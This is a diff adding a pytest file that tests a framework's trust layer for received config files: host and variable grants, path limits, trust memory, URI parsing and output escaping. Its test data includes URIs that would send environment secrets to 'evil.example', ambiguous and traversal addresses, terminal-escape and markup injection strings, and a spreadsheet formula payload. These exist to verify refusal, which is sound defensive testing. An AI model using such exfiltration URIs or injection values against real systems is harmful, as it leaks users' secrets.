@@ -1,0 +1,178 @@
+"""What a received file may do: free, granted by what is typed or trusted, refused otherwise."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+import yaml
+
+from framework.cli.main import main
+from framework.errors import InputError
+from framework.security import (
+    address_of,
+    csv_text_value,
+    markdown_text,
+    read_bytes,
+    terminal_text,
+)
+from tests.trust.conftest import CONFIG
+from tracking.mlflow_log.store import check_artifacts
+
+TABLE = "a,b,target\n" + "".join(f"{i % 7},{i % 5},{i % 2}\n" for i in range(60))
+
+
+def configured(folder: Path, **changes) -> str:
+    folder.mkdir(exist_ok=True)
+    file = folder / "config.yaml"
+    file.write_text(yaml.safe_dump(yaml.safe_load(CONFIG) | changes))
+    return str(file)
+
+
+@pytest.fixture
+def elsewhere(tmp_path, monkeypatch):
+    """Return a file that reads a table outside its folder; the user works in a third place."""
+    (tmp_path / "data.csv").write_text(TABLE)
+    (tmp_path / "work").mkdir()
+    monkeypatch.chdir(tmp_path / "work")
+    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": {"path": "../data.csv"}}
+    return configured(tmp_path / "received", problem=problem)
+
+
+def refused(capsys, *arguments):
+    code = main(list(arguments))
+    return code, capsys.readouterr().err
+
+
+def test_a_host_is_refused_until_it_is_granted(tmp_path, capsys):
+    file = configured(tmp_path / "in", tracking={"uri": "http://${A_SECRET}@evil.example/"})
+    code, said = refused(capsys, "run", file)
+    assert code == 2
+    assert "tracking.uri: connects to evil.example, which you have not granted" in said
+    assert f"paretolab trust {file}" in said
+    assert "sends the variable A_SECRET of your environment" in said
+    code, said = refused(capsys, "run", file, "--allow", "host=evil.example")
+    assert (code, "connects to" in said, "A_SECRET" in said) == (2, False, True)
+    assert main(["check", file, "--set", "tracking.uri=http://host.example"]) == 0
+    assert (
+        main(["check", file, "--allow", "host=evil.example", "--allow", "variable=A_SECRET"]) == 0
+    )
+    assert "(granted)" in capsys.readouterr().out
+    assert refused(capsys, "check", file)[0] == 2  # an option is for one command
+
+
+def test_trust_is_remembered_shown_and_forgotten(elsewhere, capsys):
+    assert refused(capsys, "check", elsewhere)[0] == 2
+    assert main(["trust", elsewhere]) == 0
+    assert main(["check", elsewhere]) == 0
+    assert main(["trust", "--list"]) == 0
+    assert f"{elsewhere}: read=" in capsys.readouterr().out
+    remembered = Path(os.environ["XDG_CONFIG_HOME"], "paretolab", "trusted.json")
+    assert remembered.stat().st_mode & 0o077 == 0
+    text = Path(elsewhere).read_text()
+    Path(elsewhere).write_text(text.replace("evaluations: 16", "evaluations: 17"))
+    assert main(["check", elsewhere]) == 0  # edited, and does nothing new
+    Path(elsewhere).write_text(
+        text.replace("tracking: null", "tracking: {uri: 'http://evil.example'}")
+    )
+    assert refused(capsys, "check", elsewhere)[0] == 2
+    Path(elsewhere).write_text(text)
+    assert main(["trust", "--forget", elsewhere]) == 0
+    assert refused(capsys, "check", elsewhere)[0] == 2
+
+
+def test_a_run_goes_on_with_what_it_was_granted_and_no_other_does(elsewhere, capsys, monkeypatch):
+    options = ["--quiet", "--no-plots", "--no-mlflow"]
+    assert main(["run", elsewhere, "--out", "one", *options, "--allow", "read=.."]) == 0
+    assert main(["choose", "one", "--best", "cost", "--no-mlflow"]) == 0
+    assert "its model and picture are not written" not in capsys.readouterr().err
+    assert main(["resume", "one", *options]) == 0
+    monkeypatch.setenv("XDG_CONFIG_HOME", os.environ["XDG_CONFIG_HOME"] + "2")  # another user's
+    code, said = refused(capsys, "resume", "one", *options)
+    assert (code, "reads " in said, "which you have not granted" in said) == (2, True, True)
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "http://evil.example/leak/${X}/x",
+        "http://${X}.evil.example/",
+        "http://127.0.0.1:9@evil.example\\@127.0.0.1",
+        "evil-plugin://x",
+        "sqlite:///${HOME}/m.db",
+        "sqlite:///file:/x?uri=true",
+        "file://evil.example/x",
+        "hdfs://x/y",
+        "grpc://x:1",
+        "",
+    ],
+)
+def test_addresses_that_can_be_read_in_two_ways_are_none(uri):
+    with pytest.raises(ValueError, match="expected "):
+        address_of(uri)
+
+
+def test_stores_and_paths_that_are_free(tmp_path, monkeypatch, capsys):
+    (tmp_path / "work").mkdir()
+    monkeypatch.chdir(tmp_path / "work")
+    for uri in ("sqlite:///mlflow.db", "http://127.0.0.1:9", f"sqlite:///{tmp_path}/in/m.db"):
+        assert main(["check", configured(tmp_path / "in", tracking={"uri": uri})]) == 0, uri
+    for uri in (f"sqlite:///{tmp_path}/new/m.db", "sqlite:///../m.db", "http://${X}@127.0.0.1:9"):
+        assert refused(capsys, "check", configured(tmp_path / "in", tracking={"uri": uri}))[0] == 2
+    assert not (tmp_path / "new").exists()
+
+
+@pytest.mark.parametrize(
+    ("location", "store"),
+    [
+        ("file:///home/me", "http://127.0.0.1:5000"),
+        ("/home/me", "http://127.0.0.1:5000"),
+        ("http://evil.example/x", "http://127.0.0.1:5000"),
+        ("mlflow-artifacts://evil.example/x", "http://127.0.0.1:5000"),
+        ("ftp://x/y", "http://127.0.0.1:5000"),
+        ("file:///home/me", "sqlite:////tmp/x/mlflow.db"),
+        ("file:///tmp/x/%2e%2e/y", "sqlite:////tmp/x/mlflow.db"),
+    ],
+)
+def test_a_store_sends_files_nowhere_else(location, store):
+    with pytest.raises(InputError, match="nothing was sent there"):
+        check_artifacts(location, store)
+    check_artifacts("mlflow-artifacts:/1/2", "http://127.0.0.1:5000")
+    check_artifacts("s3://bucket/x", "http://127.0.0.1:5000")
+    check_artifacts("file:///tmp/x/mlruns/1", "sqlite:////tmp/x/mlflow.db")
+
+
+def test_only_regular_files_are_read_and_no_more_than_allowed(tmp_path):
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "zero").symlink_to("/dev/zero")
+    for path in (tmp_path / "pipe", tmp_path / "zero", Path("/dev/zero"), tmp_path):
+        with pytest.raises(OSError, match="in the place of a file"):
+            read_bytes(path, 100)
+    (tmp_path / "file").write_bytes(b"x" * 101)
+    assert read_bytes(tmp_path / "file", 101) == b"x" * 101
+    with pytest.raises(ValueError, match="more than 100 bytes"):
+        read_bytes(tmp_path / "file", 100)
+
+
+@pytest.mark.parametrize("kind", ["zero", "pipe"])
+def test_a_device_as_a_table_or_a_case_ends_in_a_sentence(kind, tmp_path, capsys):
+    place = tmp_path / "data.csv"
+    place.symlink_to("/dev/zero") if kind == "zero" else os.mkfifo(place)
+    problem = yaml.safe_load(CONFIG)["problem"] | {"dataset": {"path": "data.csv"}}
+    code, said = refused(
+        capsys, "check", configured(tmp_path, problem=problem), "--allow", "read=/dev"
+    )
+    assert (code, "found no such file" in said or "in the place of" in said) == (2, True), said
+    code, said = refused(capsys, "check", str(place))
+    assert (code, "in the place of a file" in said) == (2, True), said
+
+
+def test_names_stay_text():
+    assert terminal_text("a\x1b[31mb\u202e") == "a\\x1b[31mb\\u202e"
+    assert terminal_text("grün ✓") == "grün ✓"
+    assert markdown_text("<img src=x> ![x](y) `z` | a_b") == (
+        r"&lt;img src=x&gt; !\[x\](y) \`z\` \| a_b"
+    )
+    assert csv_text_value("=HYPERLINK(1)") == "'=HYPERLINK(1)"
+    assert csv_text_value("yes") == "yes"
